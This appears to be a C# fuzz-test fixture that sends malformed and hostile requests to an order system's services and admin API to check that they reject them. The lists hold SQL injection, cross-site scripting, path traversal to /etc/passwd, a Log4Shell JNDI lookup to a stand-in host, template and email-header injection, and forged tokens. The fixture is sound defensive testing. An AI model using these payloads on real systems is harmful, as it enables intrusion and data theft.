using System.Text;

namespace OrderSystem.Tests.Hardening;

/// <summary>Malformed, oversized, wrongly typed and injection-shaped inputs for every endpoint of the four services.</summary>
public static class HostileInput
{
    /// <summary>Strings that must never reach a database or a log unchecked; as JSON string literals (escapes included).</summary>
    public static readonly string[] JsonStrings =
    [
        "\"'; DROP TABLE \\\"Orders\\\"; --\"",
        "\"' OR '1'='1\"",
        "\"<script>alert(1)</script>\"",
        "\"a\\u0000b\"",
        "\"\\u0000\"",
        "\"\\ud800\"",
        "\"\\udfff x\"",
        "\"../../../../etc/passwd\"",
        "\"${jndi:ldap://evil.example/a}\"",
        "\"{{7*7}}\"",
        "\"x@example.com\\r\\nBcc: victim@example.com\"",
        "\"\\u202e\\u0000rtl\"",
        "\"\\t\\n\\r\"",
        "\"\"",
        "\"   \"",
        "\"" + new string('A', 70_000) + "\"",
    ];

    /// <summary>Values of the wrong JSON type for a string or number field.</summary>
    public static readonly string[] WrongTypes = ["123", "-1", "1e309", "true", "[]", "{}", "[\"a\"]", "{\"$ne\": null}", "null", "NaN", "\"1\"", "2147483648", "1.5"];

    /// <summary>Whole bodies that are not the expected object.</summary>
    public static readonly string[] Bodies =
    [
        "", " ", "null", "[]", "{", "}", "{\"a\":", "not json", "\u0000", "'; DROP TABLE \"Orders\"; --", "<xml/>", "[1,2,3]", "\"string\"", "42",
        new string('[', 5_000) + new string(']', 5_000),
        "{\"x\":" + string.Concat(Enumerable.Repeat("{\"x\":", 2_000)) + "1" + new string('}', 2_001),
        "{" + string.Join(",", Enumerable.Range(0, 3_000).Select(i => $"\"k{i}\":{i}")) + "}",
        "{\"a\":1, /* comment */ \"b\":2}",
        "\uFEFF{}",
    ];

    /// <summary>Query-string values (escaped) for filters and paging.</summary>
    public static readonly string[] QueryValues =
    [
        "-1", "0", "abc", "99999999999", "2147483647", "1e9", "1.5", "%00", "%27%3B%20DROP%20TABLE%20%22Orders%22%3B%20--", "%3Cscript%3E",
        "%ff%fe", "%E2%80%AE", Uri.EscapeDataString(new string('9', 5_000)), Uri.EscapeDataString(new string('x', 8_000)), "", "%20", "null",
        "00000000-0000-0000-0000-000000000000%00", "true",
    ];

    /// <summary>
    /// Path segments (escaped) for route values. No %00: the in-process test server refuses to send it (Kestrel answers 400
    /// itself before routing; docs/guarantees.md shows the curl check).
    /// </summary>
    public static readonly string[] PathValues =
    [
        "%27%20OR%20%271%27%3D%271", "..%2F..%2Fetc%2Fpasswd", "%3Cscript%3E", Uri.EscapeDataString(new string('A', 3_000)), "%ff",
        "not-a-guid", "00000000-0000-0000-0000-000000000000", "%E2%80%AE", "*", "%2A",
    ];

    /// <summary>A valid order body with <paramref name="field"/> replaced by the raw JSON <paramref name="value"/>.</summary>
    public static string Order(string? field = null, string? value = null)
    {
        string V(string name, string valid) => name == field ? value! : valid;
        return "{" +
            $"\"items\":{V("items", $"[{{\"sku\":{V("sku", "\"KB-001\"")},\"quantity\":{V("quantity", "1")}}}]")}," +
            $"\"payment\":{V("payment", $"{{\"paymentMethodId\":{V("paymentMethodId", "\"0b7c4d4e-4f39-4d6e-9a51-3c1f0c2d9e11\"")}}}")}" +
            "}";
    }

    /// <summary>
    /// Every hostile request. Order bodies that pass validation would be accepted, so every order variant is invalid in one
    /// field; product bodies use an existing SKU (a valid body gets 409) or an unknown one in the route (404).
    /// </summary>
    public static IEnumerable<FuzzRequest> All(string adminToken)
    {
        // --- Order: POST /orders ---
        foreach (var field in new[] { "sku", "quantity", "paymentMethodId", "items", "payment" })
        {
            // Leave out the combination that is simply valid (quantity 123): it would place an order.
            foreach (var value in JsonStrings.Concat(WrongTypes).Where(v => (field, v) is not ("quantity", "123")))
                yield return new("order", "POST", "/orders", Order(field, value));
        }

        // The customer is the token's subject: any customer id or email in the body is refused, valid-looking or not
        // (null reads as "not sent", like every optional field).
        foreach (var value in JsonStrings.Concat(WrongTypes).Append("\"bob\"").Where(v => v != "null"))
        {
            yield return new("order", "POST", "/orders", "{\"customerId\":" + value + "," + Order()[1..]);
            yield return new("order", "POST", "/orders", "{\"customerEmail\":" + value + "," + Order()[1..]);
        }

        foreach (var quantity in new[] { "0", "-5", "1001", "2147483647", "2147483648", "-2147483649", "1.0000001", "1e3" })
            yield return new("order", "POST", "/orders", Order("quantity", quantity));
        yield return new("order", "POST", "/orders", Order("items", "[" + string.Join(",", Enumerable.Range(0, 51).Select(_ => "{\"sku\":\"KB-001\",\"quantity\":1}")) + "]"));
        yield return new("order", "POST", "/orders", Order("items", "[" + string.Join(",", Enumerable.Range(0, 5_000).Select(_ => "{\"sku\":\"KB-001\",\"quantity\":1}")) + "]"));
        yield return new("order", "POST", "/orders", Order("items", "[null]"));
        yield return new("order", "POST", "/orders", Order("items", "[{\"sku\":\"KB-001\"}]"));
        yield return new("order", "POST", "/orders", Order("items", "[{\"sku\":\"NO-SUCH-SKU\",\"quantity\":1}]"));
        yield return new("order", "POST", "/orders", Order("items", "[{\"sku\":\"KB-001\",\"quantity\":1,\"unitPrice\":0.01}]"));
        yield return new("order", "POST", "/orders", Order("paymentMethodId", "\"x\\u0000\"").Replace("}", ",\"total\":0.01}", StringComparison.Ordinal));
        yield return new("order", "POST", "/orders", "{\"customerId\":\"a\",\"customerId\":\"b\\u0000\"," + Order()[1..]);
        foreach (var body in Bodies)
            yield return new("order", "POST", "/orders", body);
        yield return new("order", "POST", "/orders", Order("paymentMethodId", "\"x\\u0000\""), "text/plain");
        yield return new("order", "POST", "/orders", Order("paymentMethodId", "\"x\\u0000\""), "application/xml");
        yield return new("order", "POST", "/orders", Encoding.Latin1.GetString(Encoding.Unicode.GetBytes(Order("paymentMethodId", "\"1\""))));
        foreach (var key in new[] { new string('k', 101), "key\twith-tab", "key\u0001", "ключ\u0000" })
            yield return new("order", "POST", "/orders", Order("paymentMethodId", "\"12\""), Headers: new Dictionary<string, string> { ["Idempotency-Key"] = key });

        // --- Order: GET /orders, GET /orders/{id}, POST /orders/{id}/cancel ---
        foreach (var value in QueryValues)
        {
            yield return new("order", "GET", $"/orders?page={value}", MustReject: false);
            yield return new("order", "GET", $"/orders?pageSize={value}", MustReject: false);
            yield return new("order", "GET", $"/orders?status={value}", MustReject: false);
            yield return new("order", "GET", $"/orders?customerId={value}", MustReject: false);
        }

        yield return new("order", "GET", "/orders?page=1&page=2", MustReject: false);
        yield return new("order", "GET", "/orders?page=21474837&pageSize=100", MustReject: false);
        foreach (var value in PathValues)
        {
            yield return new("order", "GET", $"/orders/{value}");
            yield return new("order", "POST", $"/orders/{value}/cancel");
        }

        yield return new("order", "POST", $"/orders/{Guid.NewGuid()}/cancel", "{\"reason\":\"'; DROP TABLE\"}");
        yield return new("order", "DELETE", "/orders");
        yield return new("order", "PUT", "/orders", Order());

        // --- Inventory ---
        foreach (var field in new[] { "sku", "name", "unitPrice", "onHand" })
        {
            // SKU "1" is valid and would create a product; every other valid body hits the existing KB-001 (409).
            foreach (var value in JsonStrings.Concat(WrongTypes).Where(v => (field, v) is not ("sku", "\"1\"")))
                yield return new("inventory", "POST", "/products", Product(field, value));
        }

        foreach (var price in new[] { "0", "-1", "0.001", "1000000.01", "79228162514264337593543950335", "1e-30" })
            yield return new("inventory", "POST", "/products", Product("unitPrice", price));
        foreach (var body in Bodies)
        {
            yield return new("inventory", "POST", "/products", body);
            yield return new("inventory", "PUT", "/products/NOPE-404", body);
            yield return new("inventory", "PUT", "/products/NOPE-404/stock", body);
        }

        foreach (var value in JsonStrings.Concat(WrongTypes))
        {
            yield return new("inventory", "PUT", "/products/NOPE-404", $"{{\"name\":{value},\"unitPrice\":10.00}}");
            yield return new("inventory", "PUT", "/products/NOPE-404", $"{{\"name\":\"ok\",\"unitPrice\":{value}}}");
            yield return new("inventory", "PUT", "/products/NOPE-404/stock", $"{{\"onHand\":{value}}}");
        }

        foreach (var value in PathValues)
        {
            yield return new("inventory", "GET", $"/products/{value}");
            yield return new("inventory", "PUT", $"/products/{value}", "{\"name\":\"ok\",\"unitPrice\":10.00}");
            yield return new("inventory", "PUT", $"/products/{value}/stock", "{\"onHand\":1}");
        }

        foreach (var value in QueryValues)
        {
            yield return new("inventory", "GET", $"/products?page={value}", MustReject: false);
            yield return new("inventory", "GET", $"/products?pageSize={value}", MustReject: false);
        }

        yield return new("inventory", "DELETE", "/products/KB-001");

        // --- Payment and Notification ---
        foreach (var value in QueryValues)
        {
            foreach (var (service, path) in new[] { ("payment", "/payments"), ("notification", "/notifications") })
            {
                yield return new(service, "GET", $"{path}?orderId={value}", MustReject: false);
                yield return new(service, "GET", $"{path}?page={value}", MustReject: false);
                yield return new(service, "GET", $"{path}?pageSize={value}", MustReject: false);
            }

            yield return new("payment", "GET", $"/payments?status={value}", MustReject: false);
        }

        yield return new("payment", "POST", "/payments", Order());
        yield return new("notification", "POST", "/notifications", "{}");

        // --- Admin API of every service: the client's own token (no admin), forged tokens, then hostile arguments as admin ---
        foreach (var service in new[] { "order", "inventory", "payment", "notification" })
        {
            foreach (var (method, path) in AdminRoutes())
            {
                if (service != "inventory") // Inventory's client is signed in as the admin
                    yield return new(service, method, path);
                yield return new(service, method, path, Headers: new Dictionary<string, string> { ["Authorization"] = "Bearer wrong" });
                yield return new(service, method, path, Headers: new Dictionary<string, string> { ["Authorization"] = $"Bearer {adminToken}x" });
                yield return new(service, method, path, Headers: new Dictionary<string, string> { ["Authorization"] = "Bearer '; DROP TABLE --" });
            }

            var key = new Dictionary<string, string> { ["Authorization"] = $"Bearer {adminToken}" };
            foreach (var value in PathValues)
            {
                yield return new(service, "GET", $"/admin/dead-letters/{value}", Headers: key);
                yield return new(service, "POST", $"/admin/dead-letters/{value}/replay", Headers: key);
                yield return new(service, "DELETE", $"/admin/dead-letters/{value}", Headers: key);
            }

            foreach (var value in QueryValues.Where(v => v.Length > 0))
            {
                yield return new(service, "GET", $"/admin/dead-letters?queue={value}", Headers: key);
                yield return new(service, "POST", $"/admin/dead-letters/replay?queue={value}", Headers: key);
                yield return new(service, "DELETE", $"/admin/dead-letters?queue={value}", Headers: key);
                yield return new(service, "DELETE", $"/admin/dead-letters?all={value}", Headers: key, MustReject: value != "true");
                yield return new(service, "GET", $"/admin/dead-letters?offset={value}&limit={value}", Headers: key, MustReject: false);
            }

            yield return new(service, "DELETE", "/admin/dead-letters", Headers: key);
        }
    }

    static IEnumerable<(string Method, string Path)> AdminRoutes() =>
    [
        ("GET", "/admin/dead-letters"), ("GET", "/admin/dead-letters/queues"), ("GET", "/admin/dead-letters/some-id"),
        ("POST", "/admin/dead-letters/some-id/replay"), ("POST", "/admin/dead-letters/replay"), ("DELETE", "/admin/dead-letters/some-id"),
        ("DELETE", "/admin/dead-letters?all=true"),
    ];

    /// <summary>A product body for the existing SKU KB-001 (a valid body is a 409) with one field replaced.</summary>
    public static string Product(string? field = null, string? value = null)
    {
        string V(string name, string valid) => name == field ? value! : valid;
        return $"{{\"sku\":{V("sku", "\"KB-001\"")},\"name\":{V("name", "\"Fuzz\"")},\"unitPrice\":{V("unitPrice", "10.00")},\"onHand\":{V("onHand", "5")}}}";
    }
}
